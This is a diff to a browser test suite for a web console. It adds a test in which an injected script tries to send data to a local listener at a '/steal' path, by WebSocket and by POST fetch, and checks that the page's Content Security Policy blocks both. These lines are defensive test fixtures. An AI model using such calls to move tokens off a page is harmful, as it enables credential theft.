@@ -143,11 +143,38 @@ describe.skipIf(browserSuite === 'skip')('console as an attacker sees it (real C
     expect(await page.evaluate('localStorage.length')).toBe(0);
     await page.getByRole('button', { name: 'Sign out' }).click();
     await page.getByLabel('Token').waitFor();
-    await expect.poll(open, { timeout: 20_000 }).toBe(0);
+    // CLOSED (3), not only CLOSING: the close handshake finished, so the server saw it go
+    await expect.poll(() => page.evaluate<number>('window.__sockets.filter((s) => s.readyState !== 3).length'), { timeout: 20_000 }).toBe(0);
     expect((await urls()).filter((u) => u.includes(PEOPLE.carol.token))).toEqual([]);
     expect(seen.filter((s) => s.includes(PEOPLE.carol.token))).toEqual([]);
     await context.close();
   }, 90_000);
+
+  it('the page may open no WebSocket and no request to another host, so an injected script could not send the token away', async () => {
+    const { context, page } = await newPerson(browser);
+    await signIn(page, origin, PEOPLE.bob.token, '/approvals');
+    // a listener on another port of the same machine: any connection that reaches it is a leak
+    const listener = createServer((socket) => { reached.push('tcp'); socket.destroy(); });
+    const reached: string[] = [];
+    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
+    const port = (listener.address() as { port: number }).port;
+    try {
+      const blocked = await page.evaluate<string[]>(`new Promise((resolve) => {
+        const seen = [];
+        document.addEventListener('securitypolicyviolation', (e) => { seen.push(e.violatedDirective); if (seen.length === 2) resolve(seen); });
+        try { new WebSocket('ws://127.0.0.1:${port}/steal'); } catch { seen.push('connect-src (thrown)'); }
+        fetch('http://127.0.0.1:${port}/steal', { method: 'POST', body: 'x' }).catch(() => undefined);
+        setTimeout(() => resolve(seen), 5000);
+      })`);
+      expect(blocked.sort()).toEqual(['connect-src', 'connect-src']);
+      expect(reached).toEqual([]);
+      // the console's own socket (same origin) still connects under the same policy
+      await expect.poll(() => page.locator('header .connection').textContent(), { timeout: 20_000 }).toBe('live');
+    } finally {
+      await new Promise<void>((resolve) => listener.close(() => resolve()));
+    }
+    await context.close();
+  }, 60_000);
 
   it('a token revoked mid-session (config change and restart) signs the tab out and says why, instead of reconnecting forever', async () => {
     const { context, page } = await newPerson(browser);
